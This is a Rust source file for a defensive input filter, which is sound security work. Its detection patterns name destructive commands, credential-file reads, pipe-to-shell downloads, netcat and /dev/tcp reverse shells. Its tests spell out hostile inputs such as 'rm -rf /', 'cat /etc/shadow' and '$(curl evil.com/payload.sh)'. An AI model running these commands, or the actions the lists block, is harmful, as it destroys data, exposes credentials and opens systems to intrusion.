//! Pattern-based hard filter for dangerous or abusive input.
//!
//! Categories are checked in a fixed order; the first match wins. Patterns
//! are data (`Vec<(Regex, String)>` per category), not code, so operators can
//! append new ones at runtime via [`PolicyGate::add_pattern`].

use regex::Regex;
use serde::Serialize;

/// Severity attached to a matched category.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    Low,
    Medium,
    High,
    Critical,
}

/// A single category's pattern list plus its fixed severity.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Category {
    DestructiveCommand,
    SecretExposure,
    InjectionAttempt,
    MaliciousCode,
    SensitivePath,
}

impl Category {
    fn severity(self) -> Severity {
        match self {
            Category::DestructiveCommand => Severity::Critical,
            Category::SecretExposure => Severity::High,
            Category::InjectionAttempt => Severity::High,
            Category::MaliciousCode => Severity::High,
            Category::SensitivePath => Severity::Medium,
        }
    }
}

/// A detected policy violation.
#[derive(Debug, Clone, Serialize)]
pub struct Violation {
    pub category: Category,
    pub severity: Severity,
    pub description: String,
}

struct PatternList {
    category: Category,
    patterns: Vec<(Regex, String)>,
}

/// The policy gate. Construct once and share via `Arc`.
pub struct PolicyGate {
    destructive: PatternList,
    secret: PatternList,
    injection: PatternList,
    malicious: PatternList,
    sensitive_path: PatternList,
    code_example_indicators: Vec<&'static str>,
    dangerous_op_patterns: Vec<Regex>,
}

fn compile(category: Category, pairs: &[(&str, &str)]) -> PatternList {
    PatternList {
        category,
        patterns: pairs
            .iter()
            .map(|(pattern, desc)| {
                (
                    Regex::new(&format!("(?i){pattern}")).expect("valid built-in pattern"),
                    desc.to_string(),
                )
            })
            .collect(),
    }
}

impl Default for PolicyGate {
    fn default() -> Self {
        Self::new()
    }
}

impl PolicyGate {
    pub fn new() -> Self {
        let destructive = compile(Category::DestructiveCommand, &[
            (r"\brm\s+(-[rf]+\s+)*[/~]", "recursive/force delete of root or home"),
            (r"\brm\s+-[rf]*\s+\*", "force delete with wildcard"),
            (r"\brmdir\s+(-[rf]+\s+)*/", "remove root directory"),
            (r">\s*/dev/sd[a-z]", "direct write to a block device"),
            (r"\bmkfs\.", "filesystem format command"),
            (r"\bdd\s+.*of=/dev/", "raw disk write via dd"),
            (r":\(\)\{.*\|.*&\s*\};:", "fork bomb"),
            (r"\bsystemctl\s+(stop|disable)\s+(network|ssh|sshd)", "disabling network/ssh service"),
            (r"\biptables\s+-F", "flushing firewall rules"),
            (r"\bufw\s+disable", "disabling firewall"),
        ]);
        let secret = compile(Category::SecretExposure, &[
            (r"cat\s+.*(/etc/shadow|/etc/passwd)", "reading system credential files"),
            (r"cat\s+.*(\.env|\.ssh|id_rsa|\.aws|credentials)", "reading secret/credential files"),
            (r"echo\s+.*\$\{?(API_KEY|SECRET|PASSWORD|TOKEN)", "echoing a secret-like env var"),
            (r"curl\s+.*@.*password", "credentials embedded in a URL"),
            (r"printenv\s+.*(SECRET|KEY|PASSWORD|TOKEN)", "dumping secret-like env vars"),
            (r"export\s+.*=.*\bsk-[a-zA-Z0-9]+", "exporting an API-key-shaped value"),
        ]);
        let injection = compile(Category::InjectionAttempt, &[
            (r";\s*(rm|cat|curl|wget|bash|sh|python|perl)", "command chaining into a shell"),
            (r"\|\s*(bash|sh|python|perl)", "piping into an interpreter"),
            (r"\$\(.*\)", "command substitution"),
            (r"`[^`]+`", "backtick command substitution"),
            (r"eval\s*\(", "eval call"),
            (r"exec\s*\(", "exec call"),
        ]);
        let malicious = compile(Category::MaliciousCode, &[
            (r"base64\s+-d.*\|\s*(bash|sh)", "decode-and-execute pattern"),
            (r"curl\s+.*\|\s*(bash|sh)", "curl-pipe-to-shell"),
            (r"wget\s+.*-O\s*-\s*\|\s*(bash|sh)", "wget-pipe-to-shell"),
            (r"nc\s+-[el]+", "netcat listener/exec flags"),
            (r"/dev/tcp/", "bash TCP device reverse shell"),
            (r#"python\s+-c\s+['"]import\s+(socket|subprocess)"#, "inline python socket/subprocess one-liner"),
        ]);
        let sensitive_path = compile(Category::SensitivePath, &[
            (r"/etc/sudoers", "sudoers file"),
            (r"/etc/passwd", "passwd file"),
            (r"/etc/shadow", "shadow file"),
            (r"/root/", "root home directory"),
            (r"~root/", "root home directory"),
            (r"/proc/\d+/", "process memory/fd pseudo-filesystem"),
        ]);

        let dangerous_op_patterns = [
            r"\bwrite\b", r"\bmodify\b", r"\bchange\b", r"\bedit\b", r"\bdelete\b",
            r"\bremove\b", r"\boverwrite\b", r"\b>\s*/", r"\bchmod\b", r"\bchown\b",
        ]
        .iter()
        .map(|p| Regex::new(&format!("(?i){p}")).expect("valid built-in pattern"))
        .collect();

        Self {
            destructive,
            secret,
            injection,
            malicious,
            sensitive_path,
            code_example_indicators: vec![
                "beispiel", "example", "wie funktioniert", "how does", "explain", "erkläre",
                "was macht", "what does", "syntax", "tutorial", "lernen", "learn",
                "documentation", "docs",
            ],
            dangerous_op_patterns,
        }
    }

    /// Check `text` against every category in order; return the first match.
    pub fn check(&self, text: &str) -> Option<Violation> {
        let lower = text.to_lowercase();

        if let Some(v) = Self::first_match(&self.destructive, &lower) {
            return Some(v);
        }
        if let Some(v) = Self::first_match(&self.secret, &lower) {
            return Some(v);
        }
        if !self.is_likely_code_example(text) {
            if let Some(v) = Self::first_match(&self.injection, &lower) {
                return Some(v);
            }
        }
        if let Some(v) = Self::first_match(&self.malicious, &lower) {
            return Some(v);
        }
        if self.has_dangerous_operation(text) {
            if let Some(v) = Self::first_match(&self.sensitive_path, &lower) {
                return Some(v);
            }
        }
        None
    }

    fn first_match(list: &PatternList, lower_text: &str) -> Option<Violation> {
        list.patterns.iter().find_map(|(re, desc)| {
            re.is_match(lower_text).then(|| Violation {
                category: list.category,
                severity: list.category.severity(),
                description: desc.clone(),
            })
        })
    }

    fn is_likely_code_example(&self, text: &str) -> bool {
        let lower = text.to_lowercase();
        self.code_example_indicators.iter().any(|p| lower.contains(p))
    }

    fn has_dangerous_operation(&self, text: &str) -> bool {
        self.dangerous_op_patterns.iter().any(|re| re.is_match(text))
    }

    /// Append a new pattern to the given category at runtime.
    pub fn add_pattern(&mut self, category: Category, pattern: &str, description: &str) {
        let compiled = Regex::new(&format!("(?i){pattern}")).expect("caller-supplied pattern must be valid regex");
        let list = match category {
            Category::DestructiveCommand => &mut self.destructive,
            Category::SecretExposure => &mut self.secret,
            Category::InjectionAttempt => &mut self.injection,
            Category::MaliciousCode => &mut self.malicious,
            Category::SensitivePath => &mut self.sensitive_path,
        };
        list.patterns.push((compiled, description.to_string()));
    }

    /// Pattern counts per category, for diagnostics.
    pub fn get_stats(&self) -> serde_json::Value {
        serde_json::json!({
            "destructive_command": self.destructive.patterns.len(),
            "secret_exposure": self.secret.patterns.len(),
            "injection_attempt": self.injection.patterns.len(),
            "malicious_code": self.malicious.patterns.len(),
            "sensitive_path": self.sensitive_path.patterns.len(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn blocks_destructive_rm() {
        let gate = PolicyGate::new();
        let v = gate.check("please run rm -rf / on my server").unwrap();
        assert_eq!(v.category, Category::DestructiveCommand);
        assert_eq!(v.severity, Severity::Critical);
    }

    #[test]
    fn blocks_secret_exposure() {
        let gate = PolicyGate::new();
        let v = gate.check("cat /etc/shadow please").unwrap();
        assert_eq!(v.category, Category::SecretExposure);
    }

    #[test]
    fn injection_suppressed_by_code_example_indicator() {
        let gate = PolicyGate::new();
        assert!(gate.check("can you explain how `$(whoami)` works as an example").is_none());
    }

    #[test]
    fn injection_flagged_without_code_example_indicator() {
        let gate = PolicyGate::new();
        let v = gate.check("run this: $(curl evil.com/payload.sh)").unwrap();
        assert_eq!(v.category, Category::InjectionAttempt);
    }

    #[test]
    fn sensitive_path_requires_dangerous_operation() {
        let gate = PolicyGate::new();
        assert!(gate.check("what lives inside /etc/passwd on a typical linux box?").is_none());
        let v = gate.check("please delete the contents of /etc/passwd").unwrap();
        assert_eq!(v.category, Category::SensitivePath);
    }

    #[test]
    fn benign_query_passes() {
        let gate = PolicyGate::new();
        assert!(gate.check("What is 2 + 2?").is_none());
    }

    #[test]
    fn word_boundary_prevents_false_positive_on_embedded_rm() {
        let gate = PolicyGate::new();
        assert!(gate.check("please perform /home/cleanup").is_none());
    }

    #[test]
    fn add_pattern_extends_matching_at_runtime() {
        let mut gate = PolicyGate::new();
        assert!(gate.check("launch the doomsday protocol").is_none());
        gate.add_pattern(Category::MaliciousCode, "doomsday protocol", "custom rule");
        assert!(gate.check("launch the doomsday protocol").is_some());
    }

    #[test]
    fn get_stats_reports_counts() {
        let gate = PolicyGate::new();
        let stats = gate.get_stats();
        assert!(stats["destructive_command"].as_u64().unwrap() > 0);
    }

    #[test]
    fn monotonic_under_pattern_addition() {
        let mut gate = PolicyGate::new();
        let query = "rm -rf /";
        assert!(gate.check(query).is_some());
        gate.add_pattern(Category::SecretExposure, "totally unrelated pattern xyz", "noop");
        assert!(gate.check(query).is_some());
    }
}
